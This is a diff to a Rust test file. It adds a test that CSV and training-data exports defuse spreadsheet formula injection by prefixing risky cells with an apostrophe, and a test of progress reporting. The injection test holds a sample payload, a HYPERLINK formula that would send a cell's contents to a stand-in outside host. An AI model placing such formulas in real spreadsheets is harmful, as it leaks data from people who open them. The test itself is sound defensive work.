@@ -1,13 +1,21 @@
 //! Tables and training folders.
 
-use std::{collections::HashMap, fs, path::Path};
+use std::{
+    collections::HashMap,
+    fs,
+    path::Path,
+    sync::{Arc, Mutex},
+};
 
-use blastscope::record::{Record, RecordError, RecordReader, export_csv, export_for_training, path_in};
+use blastscope::record::{
+    Label, NewOpinion, Record, RecordError, RecordReader, Says, export_csv, export_for_training, path_in,
+    verify::verify_open,
+};
 use blastscope_shared::Class;
 use rusqlite::Connection;
 use tempfile::TempDir;
 
-use crate::samples::{field, filled, named, new_session};
+use crate::samples::{field, filled, named, new_session, opinion};
 
 fn record() -> (TempDir, RecordReader) {
     let folder = tempfile::tempdir().expect("a folder");
@@ -94,6 +102,55 @@ fn confirmed_and_corrected_fields_become_a_training_folder() {
     }
     // A folder that holds something is left alone.
     assert!(matches!(export_for_training(&reader, None, &target), Err(RecordError::Taken { .. })));
+}
+
+/// A note such as "=HYPERLINK(...)" must not become a link when the table is opened; numbers stay numbers.
+#[test]
+fn no_text_of_a_table_is_a_formula() {
+    let folder = tempfile::tempdir().expect("a folder");
+    let mut record = Record::open(folder.path()).expect("opened").with_min_free(0);
+    let session = record.start_session(&new_session("-2.3")).expect("written").session;
+    record.add_field(session, &field(named(Class::Pre), 1)).expect("written");
+    let link = "=HYPERLINK(\"https://example.org/?\"&A1,\"more\")";
+    let note = NewOpinion { note: link.into(), ..opinion("@A. B.", Says::Corrects(Label::Class(Class::Early))) };
+    record.add_opinion(session, 1, &note).expect("written");
+    let place = tempfile::tempdir().expect("a folder");
+    let reader = RecordReader::open(folder.path()).expect("opened");
+    let file = place.path().join("session.csv");
+    export_csv(&reader, session, &file).expect("written");
+    let lines = table(&file);
+    assert_eq!(lines[0]["note"], format!("'{link}"));
+    assert_eq!((lines[0]["specimen"].as_str(), lines[0]["labelled_by"].as_str()), ("'-2.3", "'@A. B."));
+    assert_eq!(lines[0]["logit_benign"], "-1.5");
+
+    let target = place.path().join("corrected");
+    export_for_training(&reader, None, &target).expect("written");
+    for name in ["manifest.csv", "groups.csv"] {
+        for (column, cell) in table(&target.join(name)).iter().flatten() {
+            assert!(!cell.starts_with(['=', '+', '-', '@']), "{name}, {column}: {cell}");
+        }
+    }
+}
+
+#[test]
+fn verification_and_exports_tell_how_far_they_are() {
+    let (folder, _) = record();
+    let told = Arc::new(Mutex::new(Vec::new()));
+    let log = Arc::clone(&told);
+    let reader = RecordReader::open(folder.path())
+        .expect("opened")
+        .watched(Box::new(move |what, done, total| log.lock().expect("no panic").push((what, done, total))));
+    let steps = |what: &str| -> Vec<(u64, u64)> {
+        let mut told = told.lock().expect("no panic");
+        told.drain(..).filter(|step| step.0 == what).map(|step| (step.1, step.2)).collect()
+    };
+    let entries = verify_open(&reader, &[]).expect("read").entries;
+    assert_eq!(steps("entries of the log"), (1..=entries).map(|entry| (entry, entries)).collect::<Vec<_>>());
+    let place = tempfile::tempdir().expect("a folder");
+    export_csv(&reader, "1".parse().expect("a number"), &place.path().join("session.csv")).expect("written");
+    assert_eq!(steps("fields"), [(5, 5)]);
+    export_for_training(&reader, None, &place.path().join("corrected")).expect("written");
+    assert_eq!(steps("fields"), (0..6).map(|done| (done, 6)).collect::<Vec<_>>());
 }
 
 #[test]
